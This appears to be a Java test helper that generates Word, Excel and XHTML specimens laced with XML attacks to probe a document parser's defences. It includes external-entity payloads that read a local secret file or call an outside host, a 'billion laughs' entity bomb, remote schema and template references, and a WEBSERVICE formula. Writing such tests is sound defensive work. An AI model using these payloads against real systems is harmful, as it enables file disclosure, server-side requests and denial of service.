package vn.sokehoach.data.foreign;

import static java.nio.charset.StandardCharsets.UTF_8;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.apache.poi.xwpf.usermodel.XWPFDocument;
import vn.sokehoach.data.word.DocxFile;

/** Every XML part of a document and of a workbook, each in turn with entities and schemas that lead elsewhere or explode. */
final class XmlAttacks {
    private static final String ELSEWHERE = """
            <!DOCTYPE a PUBLIC "x" "http://%1$s/a.dtd" [<!ENTITY b SYSTEM "http://%1$s/b"><!ENTITY c SYSTEM "http://%2$s/c">
            <!ENTITY d SYSTEM "%3$s"><!ENTITY %% e SYSTEM "http://%1$s/e"> %%e;]>""";
    private static final String LAUGHS = "<!DOCTYPE a [<!ENTITY a0 \"ha\">" + laughs() + "]>";

    private XmlAttacks() {}

    /** Documents, workbooks and pages; secret is the address of a file on this machine that nobody may read. */
    static List<Specimen> all(String secret) {
        String elsewhere = ELSEWHERE.formatted(Specimen.HOST, Specimen.NUMBERS, secret);
        List<Specimen> all = new ArrayList<>();
        Map.of("van-ban.docx", document(), "bieu.xlsx", workbook()).forEach((name, file) -> {
            all.addAll(attacked(name, file, elsewhere, "&b;&c;&d;"));
            all.addAll(attacked("cuoi-" + name, file, LAUGHS, "&a9;"));
        });
        for (String prolog : List.of(elsewhere, LAUGHS)) {
            String page = "<?xml version='1.0'?>" + prolog + "<html xmlns='http://www.w3.org/1999/xhtml'><body><p>"
                    + Specimen.WORDS + " &b;&c;&d;&a9;</p></body></html>";
            all.add(new Specimen("trang-" + prolog.length() + ".xhtml", page.getBytes(UTF_8)));
            all.add(new Specimen("trang-" + prolog.length() + ".xls", page.getBytes(UTF_8)));
        }
        return all;
    }

    private static List<Specimen> attacked(String name, byte[] file, String prolog, String references) {
        List<Specimen> all = new ArrayList<>();
        Map<String, byte[]> parts = ZipEntries.of(file);
        parts.forEach((part, content) -> {
            if (part.endsWith(".xml") || part.endsWith(".rels")) {
                Map<String, byte[]> changed = new LinkedHashMap<>(parts);
                changed.put(part, attacked(new String(content, UTF_8), prolog, references).getBytes(UTF_8));
                all.add(new Specimen(part.replaceAll("\\W", "-") + "-" + name, ZipEntries.zipped(changed)));
            }
        });
        return all;
    }

    /** The declaration goes before the root element, the references where it holds text, else to its end. */
    private static String attacked(String xml, String prolog, String references) {
        String bare = xml.replaceFirst("^<\\?xml[^>]*\\?>", "");
        String schema = bare.replaceFirst("^\\s*<([\\w:]+)", "<$1 xmlns:xsi='http://www.w3.org/2001/XMLSchema-instance'"
                + " xsi:schemaLocation='http://" + Specimen.HOST + "/s http://" + Specimen.HOST + "/s.xsd'");
        int text = schema.indexOf("</w:t>") > 0 ? schema.indexOf("</w:t>") : schema.indexOf("</t>");
        int place = text > 0 ? text : Math.max(0, schema.lastIndexOf("</"));
        return prolog + schema.substring(0, place) + references + schema.substring(place);
    }

    private static String laughs() {
        StringBuilder entities = new StringBuilder();
        for (int no = 1; no < 10; no++) {
            entities.append("<!ENTITY a")
                    .append(no)
                    .append(" \"")
                    .append(("&a" + (no - 1) + ";").repeat(10))
                    .append("\">");
        }
        return entities.toString();
    }

    private static byte[] document() {
        try (XWPFDocument document = new XWPFDocument(); ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            document.createStyles();
            document.createNumbering();
            document.createFootnotes();
            document.createHeader(org.apache.poi.wp.usermodel.HeaderFooterType.DEFAULT)
                    .createParagraph()
                    .createRun()
                    .setText("Dự thảo");
            document.createParagraph().createRun().setText(Specimen.WORDS);
            document.write(out);
            Map<String, byte[]> parts = ZipEntries.of(out.toByteArray());
            parts.put("word/_rels/settings.xml.rels",
                    DocxFile.externalList("attachedTemplate", "http://" + Specimen.HOST + "/m.dotm").getBytes(UTF_8));
            parts.put("customXml/item1.xml", "<a/>".getBytes(UTF_8));
            return ZipEntries.zipped(parts);
        } catch (IOException impossible) {
            throw new UncheckedIOException(impossible);
        }
    }

    private static byte[] workbook() {
        try (XSSFWorkbook book = new XSSFWorkbook(); ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            Row row = book.createSheet("Biểu").createRow(0);
            row.createCell(0).setCellValue(Specimen.WORDS);
            row.createCell(1).setCellFormula("WEBSERVICE(\"http://" + Specimen.HOST + "/w\")");
            book.write(out);
            return out.toByteArray();
        } catch (IOException impossible) {
            throw new UncheckedIOException(impossible);
        }
    }
}
